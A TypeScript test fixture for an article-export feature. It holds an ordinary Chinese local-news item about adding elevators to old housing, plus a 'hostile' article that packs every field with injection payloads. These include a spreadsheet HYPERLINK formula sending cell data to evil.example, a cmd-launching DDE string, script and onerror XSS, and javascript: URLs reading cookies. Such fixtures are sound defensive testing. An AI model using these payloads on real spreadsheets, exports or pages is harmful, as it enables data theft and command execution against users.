import type { ExportArticle } from './article';

// Articles written for the export tests (our own text, in the shapes the parser produces).

export const plainArticle: ExportArticle = {
  id: 'a1',
  title: '老旧小区加装电梯进展顺利',
  introTitle: '民生实事',
  subtitle: '——今年已完工三十二部',
  reporters: ['王晓明', '李红'],
  correspondents: ['赵一'],
  photographers: ['陈光'],
  paperName: '青山区报',
  date: '2024-03-05',
  pageNumber: '03',
  pageName: '综合新闻',
  url: 'https://epaper.example.cn/html/2024-03/05/content_1.htm',
  paragraphs: ['本报讯 今年以来，我区加快推进老旧小区改造。', '截至目前，已有三十二部电梯投入使用，居民出行更方便。'],
  keywords: ['加装电梯', '老旧小区'],
  tags: ['民生'],
};

/** Every field a trap: formulas, quotes, separators, line breaks, markup, bad links. */
export const hostileArticle: ExportArticle = {
  id: 'evil',
  title: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  introTitle: '<script>alert(1)</script>',
  subtitle: '@SUM(1+1)\r\nER  - ',
  reporters: ['-2+3', '"引号"记者'],
  correspondents: ['+cmd|\' /C calc\'!A0'],
  photographers: ['\tTAB'],
  paperName: '报,纸\n名',
  date: '2024-03-05',
  pageNumber: 'A02',
  pageName: '[链接](javascript:alert(1))',
  url: 'javascript:alert(document.cookie)',
  paragraphs: ['# 不是标题', '- 不是列表', '1. 不是编号', '<img src=x onerror=alert(1)> **粗** _斜_ `代码`', 'TY  - JOUR\nER  - '],
  keywords: ['＝全角'],
  tags: [],
};
